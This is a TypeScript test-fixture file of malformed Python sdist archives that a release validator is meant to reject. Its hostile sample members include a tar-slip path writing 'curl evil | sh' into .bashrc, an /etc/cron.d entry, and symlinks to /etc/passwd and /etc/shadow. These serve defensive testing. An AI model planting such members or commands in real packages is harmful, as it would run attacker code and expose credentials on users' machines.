/** What an sdist holds: one top-level directory with PKG-INFO, and no member that escapes it or is not a file. */
import type { TarMember } from '@pypi-release/testkit';
import type { BadInputCase } from './case';
import { fileCase, metadata, SDIST, sdistParts, sdistTarGz, TOP } from './fixtures';

function membersCase(
  id: string,
  attack: string,
  code: string,
  members: () => TarMember[],
  severity?: 'warning',
): BadInputCase {
  const bytes = () => sdistTarGz(members());
  return fileCase({ id, attack, code, file: SDIST, bytes, ...(severity ? { severity } : {}) });
}

/** The valid sdist's members plus `extra`. */
const plus =
  (...extra: TarMember[]) =>
  () => [...sdistParts(), ...extra];

export const SDIST_MEMBER_CASES: readonly BadInputCase[] = [
  membersCase(
    'sdist-file-beside-top',
    'a file beside the top-level directory',
    'sdist-top-level',
    plus({ name: 'setup.py', data: 'import os\n' }),
  ),
  membersCase(
    'sdist-two-top-dirs',
    'a second top-level directory',
    'sdist-top-level',
    plus({ name: 'other-1.0/', type: '5' }, { name: 'other-1.0/evil.py', data: 'import os\n' }),
  ),
  membersCase(
    'sdist-top-dir-misnamed',
    'a top-level directory named after another release',
    'sdist-top-level-name',
    () => sdistParts('other-2.0'),
    'warning',
  ),
  membersCase('sdist-without-pkg-info', 'an sdist without PKG-INFO', 'sdist-pkg-info-missing', () =>
    sdistParts().filter((m) => !m.name.endsWith('/PKG-INFO')),
  ),
  membersCase(
    'sdist-sparse-member',
    'a GNU sparse member',
    'sdist-sparse-member',
    plus({ name: `${TOP}/sparse.bin`, type: 'S' }),
  ),
  membersCase(
    'sdist-dotdot-path',
    'a `..` member path (tar slip)',
    'sdist-path-traversal',
    plus({ name: `${TOP}/../../.bashrc`, data: 'curl evil | sh\n' }),
  ),
  membersCase(
    'sdist-absolute-path',
    'an absolute member path',
    'sdist-path-traversal',
    plus({ name: '/etc/cron.d/evil', data: '* * * * * root id\n' }),
  ),
  membersCase(
    'sdist-symlink-escape',
    'a symbolic link leaving the sdist',
    'sdist-link',
    plus({ name: `${TOP}/passwd`, type: '2', linkName: '../../etc/passwd' }),
  ),
  membersCase(
    'sdist-symlink-absolute',
    'a symbolic link to an absolute path',
    'sdist-link',
    plus({ name: `${TOP}/shadow`, type: '2', linkName: '/etc/shadow' }),
  ),
  membersCase(
    'sdist-hardlink-escape',
    'a hard link leaving the sdist',
    'sdist-link',
    plus({ name: `${TOP}/outside`, type: '1', linkName: '../outside.txt' }),
  ),
  membersCase(
    'sdist-char-device',
    'a character device',
    'sdist-special-member',
    plus({ name: `${TOP}/null`, type: '3' }),
  ),
  membersCase('sdist-fifo', 'a FIFO', 'sdist-special-member', plus({ name: `${TOP}/pipe`, type: '6' })),
  fileCase({
    id: 'sdist-pkg-info-latin-1',
    attack: 'PKG-INFO in Latin-1, not UTF-8',
    code: 'metadata-encoding',
    file: SDIST,
    bytes: () =>
      sdistTarGz(sdistParts(TOP, Buffer.from(metadata({ headers: ['Author: Jos\u00e9'] }), 'latin1'))),
  }),
];
